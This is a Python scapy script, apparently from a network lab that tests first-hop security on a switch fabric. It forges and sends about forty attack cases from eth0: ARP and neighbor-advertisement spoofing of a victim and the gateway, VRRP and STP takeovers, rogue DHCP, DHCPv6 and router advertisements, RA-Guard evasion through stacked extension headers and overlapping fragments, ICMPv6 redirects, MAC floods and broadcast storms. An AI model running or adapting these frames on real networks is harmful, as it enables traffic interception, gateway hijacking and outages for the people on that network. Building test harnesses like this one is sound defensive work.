"""Forges frames with scapy. Reads lines "CASE COUNT" and sends the frames of a case so often, from eth0 of its namespace."""

import sys

from scapy.all import *

EVERYBODY = 'ff:ff:ff:ff:ff:ff'
NODES = '33:33:00:00:00:01'
ME = get_if_hwaddr('eth0')
OWN = get_if_addr('eth0')
LINK_LOCAL = next(a[0] for a in in6_getifaddr() if a[2] == 'eth0' and a[0].startswith('fe80'))

# vm-a is at the attacker's own leaf, vm-b at another one.
NEAR_MAC, NEAR, NEAR6 = '02:57:46:00:00:01', '10.1.0.11', '2001:db8:1::11'
VICTIM_MAC, VICTIM, VICTIM6 = '02:57:46:00:00:02', '10.1.0.12', '2001:db8:1::12'
GATEWAY, GATEWAY6 = '10.1.0.1', '2001:db8:1::1'
GATEWAY_MAC, GATEWAY_MAC6 = '00:00:5e:00:01:0a', '00:00:5e:00:02:0a'

ALL = Ether(src=ME, dst=NODES) / IPv6(src=LINK_LOCAL, dst='ff02::1', hlim=255)
DATA = UDP(sport=9, dport=9) / b'x'
NOBODY = bytes(Ether(src=ME, dst=GATEWAY_MAC6) / IPv6(src='2001:db8:1::66:0:0', dst=NEAR6) / DATA)


def arp(source, mac, address, op=2, to=EVERYBODY, **more):
    return Ether(src=source, dst=to) / ARP(op=op, hwsrc=mac, psrc=address, **{'pdst': address, **more})


def advertisement():
    return ICMPv6ND_RA() / ICMPv6NDOptPrefixInfo(prefix='2001:db8:bad::', prefixlen=64)


def neighbor(target, router=0):
    return ICMPv6ND_NA(tgt=target, R=router, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=ME)


def vrrp(source_mac, source):
    body = VRRPv3(version=3, type=1, vrid=10, priority=255, addrlist=[GATEWAY])
    return Ether(src=source_mac, dst='01:00:5e:00:00:12') / IP(src=source, dst='224.0.0.18', ttl=255, proto=112) / body


def hello(to):
    pdu = bytes([0x83, 20, 1, 0, 17, 1, 0, 0, 3]) + b'\x02\x00\x00\x00\x00\x66' + bytes([0, 30, 0, 46, 1]) + b'\x01\x02\x03\x00' + bytes(30)
    return Dot3(src=ME, dst=to) / LLC(dsap=0xfe, ssap=0xfe, ctrl=3) / Raw(pdu)


def many(count):
    """MACs and addresses that nobody has."""
    return ((b'\x02\x66' + i.to_bytes(4, 'big'), bytes([10, 1, 0, 100 + i % 100])) for i in range(count))


def checked(message):
    """The octets of a message as they would be in a packet that is not cut."""
    return Raw(bytes(ALL / message)[54:])


CASES = {
    'garp-of-another': lambda: [arp(ME, ME, VICTIM, op=1)],
    'garp-as-another': lambda: [arp(VICTIM_MAC, VICTIM_MAC, VICTIM, op=1)],
    'rarp-as-another': lambda: [
        Ether(src=VICTIM_MAC, dst=EVERYBODY, type=0x8035) / ARP(op=3, hwsrc=VICTIM_MAC, hwdst=VICTIM_MAC, psrc='0.0.0.0', pdst='0.0.0.0')],
    'arp-mac-inside': lambda: [arp(ME, VICTIM_MAC, VICTIM)],
    'arp-target-mac': lambda: [arp(ME, ME, OWN, to=NEAR_MAC, hwdst=VICTIM_MAC, pdst=NEAR)],
    'arp-of-nobody': lambda: [arp(ME, ME, address, op=1) for address in ('224.0.0.5', '255.255.255.255', '127.0.0.1', '240.0.0.1')],
    'gateway-arp': lambda: [arp(ME, ME, GATEWAY)],
    'gateway-mac': lambda: [arp(GATEWAY_MAC, GATEWAY_MAC, GATEWAY), Ether(src=GATEWAY_MAC, dst=NEAR_MAC) / IP(src=OWN, dst=NEAR) / DATA],
    'gateway-na': lambda: [ALL / neighbor(GATEWAY6)],
    'gateway-data': lambda: [Ether(src=ME, dst=NEAR_MAC) / IP(src=GATEWAY, dst=NEAR) / DATA],
    'vrrp-virtual-mac': lambda: [vrrp(GATEWAY_MAC, OWN)],
    'vrrp-gateway': lambda: [vrrp(ME, GATEWAY)],
    'isis-hello': lambda: [hello('01:80:c2:00:00:15'), hello('09:00:2b:00:00:05')],
    'stp-root': lambda: [Dot3(src=ME, dst='01:80:c2:00:00:00') / LLC() / STP(rootid=0, rootmac=ME, bridgeid=0, bridgemac=ME)],
    'source-v4': lambda: [Ether(src=ME, dst=GATEWAY_MAC) / IP(src=VICTIM, dst=NEAR) / DATA],
    'source-v6': lambda: [Ether(src=ME, dst=GATEWAY_MAC6) / IPv6(src=VICTIM6, dst=NEAR6) / DATA],
    'source-as-another': lambda: [
        Ether(src=VICTIM_MAC, dst=GATEWAY_MAC) / IP(src=VICTIM, dst='10.1.0.13') / DATA,
        Ether(src=VICTIM_MAC, dst=GATEWAY_MAC6) / IPv6(src=VICTIM6, dst='2001:db8:1::13') / DATA],
    'source-of-nobody': lambda: [Ether(src=ME, dst=GATEWAY_MAC) / IP(src='10.1.0.%d' % (100 + i), dst=NEAR) / DATA for i in range(20)],
    'second-tag': lambda: [Ether(src=ME, dst=EVERYBODY) / Dot1Q(vlan=10) / Dot1Q(vlan=10) / IP(src=OWN, dst='10.1.0.255') / DATA],
    'dhcp-discover': lambda: [
        Ether(src=ME, dst=EVERYBODY) / IP(src='0.0.0.0', dst='255.255.255.255') / UDP(sport=68, dport=67)
        / BOOTP(chaddr=bytes.fromhex(ME.replace(':', ''))) / DHCP(options=[('message-type', 'discover'), 'end'])],
    'dhcp-offer': lambda: [
        Ether(src=ME, dst=NEAR_MAC) / IP(src=OWN, dst='255.255.255.255') / UDP(sport=67, dport=68)
        / BOOTP(op=2, yiaddr='10.1.0.66', siaddr=OWN, chaddr=bytes.fromhex(NEAR_MAC.replace(':', '')))
        / DHCP(options=[('message-type', 'offer'), ('server_id', OWN), ('router', OWN), 'end'])],
    'dhcp6-advertise': lambda: [
        Ether(src=ME, dst=NEAR_MAC) / IPv6(src=LINK_LOCAL, dst='fe80::57:46ff:fe00:1') / UDP(sport=547, dport=546) / DHCP6_Advertise()],
    'ra': lambda: [ALL / advertisement()],
    'ra-behind-hop-by-hop': lambda: [ALL / IPv6ExtHdrHopByHop() / advertisement()],
    'ra-behind-three-headers': lambda: [ALL / IPv6ExtHdrHopByHop() / IPv6ExtHdrDestOpt() / IPv6ExtHdrRouting() / advertisement()],
    'ra-behind-ten-headers': lambda: [ALL / functools.reduce(lambda a, b: a / b, [IPv6ExtHdrDestOpt() for _ in range(10)]) / advertisement()],
    'ra-only-fragment': lambda: [ALL / IPv6ExtHdrFragment(id=1, nh=58) / checked(advertisement())],
    'ra-upper-layer-in-second-fragment': lambda: [
        ALL / IPv6ExtHdrFragment(id=2, m=1, nh=60) / Raw(bytes([58, 1, 1, 12]) + bytes(12)),
        ALL / IPv6ExtHdrFragment(id=2, offset=2, nh=60) / checked(advertisement())],
    'ra-overlapping': lambda: [
        ALL / IPv6ExtHdrFragment(id=3, offset=1, nh=60) / checked(advertisement()),
        ALL / IPv6ExtHdrFragment(id=3, m=1, nh=60) / Raw(bytes([58, 0, 1, 4, 0, 0, 0, 0, 128, 0, 0, 0, 0, 0, 0, 1]))],
    'ra-empty-first-fragment': lambda: [
        ALL / IPv6ExtHdrFragment(id=4, m=1, nh=58), ALL / IPv6ExtHdrFragment(id=4, nh=58) / checked(advertisement())],
    'na-of-another': lambda: [ALL / neighbor(VICTIM6)],
    'na-behind-hop-by-hop': lambda: [ALL / IPv6ExtHdrHopByHop() / neighbor(VICTIM6)],
    'na-fragment': lambda: [ALL / IPv6ExtHdrFragment(id=5, nh=58) / checked(neighbor(VICTIM6))],
    'na-as-router': lambda: [ALL / neighbor(LINK_LOCAL, router=1)],
    'arp-flood': lambda: [b'\xff' * 6 + mac + bytes.fromhex('08060001080006040001') + mac + address + bytes(6) + bytes([10, 1, 0, 1]) + bytes(18) for mac, address in many(20000)],
    'source6-flood': lambda: [
        NOBODY[:6] + mac + NOBODY[12:34] + mac[2:] + NOBODY[38:] for mac, _ in many(80000)],
    'redirect': lambda: [Ether(src=ME, dst=NEAR_MAC) / IPv6(src=LINK_LOCAL, dst=NEAR6, hlim=255) / ICMPv6ND_Redirect(tgt=LINK_LOCAL, dst=VICTIM6)],
    'storm': lambda: [Ether(src=ME, dst=EVERYBODY) / IP(src=OWN, dst='10.1.0.255') / DATA] * 3000,
}

socket = conf.L2socket(iface='eth0')
for line in sys.stdin:
    case, count = line.split()
    frames = [bytes(frame) for frame in CASES[case]()]
    for _ in range(int(count)):
        for frame in frames:
            socket.send(frame)
